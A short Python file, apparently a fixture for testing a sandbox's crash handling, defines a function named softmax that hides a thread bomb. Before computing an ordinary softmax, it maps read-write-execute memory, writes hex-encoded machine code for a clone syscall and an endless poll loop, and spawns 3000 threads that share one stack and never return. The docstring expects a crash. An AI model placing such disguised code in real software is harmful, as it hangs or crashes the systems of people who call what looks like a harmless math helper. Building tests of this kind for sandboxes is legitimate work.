"""Starts threads in machine code, which share one stack and wait for ever. Expect crashed: too few threads|SIG."""

import numpy as np


def softmax(x, axis=-1):
    import ctypes
    import mmap

    memory = mmap.mmap(-1, 1 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    base = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    wait = bytes.fromhex("31ff31f6baffffffffb8070000000f05ebf0")  # poll(0, 0, -1), again and again
    clone = bytes.fromhex("b8380000000f0585c07401c3e9")  # the child goes to wait
    memory[: len(wait)] = wait
    memory[4096 : 4096 + len(clone) + 4] = clone + (-4096 - len(clone) - 4).to_bytes(4, "little", signed=True)
    start = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_ulong, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p)
    for _ in range(3000):
        if start(base + 4096)(0x10F00, base + (1 << 19), 0, 0) < 0:
            raise RuntimeError("too few threads")
    e = np.exp(x - x.max(axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
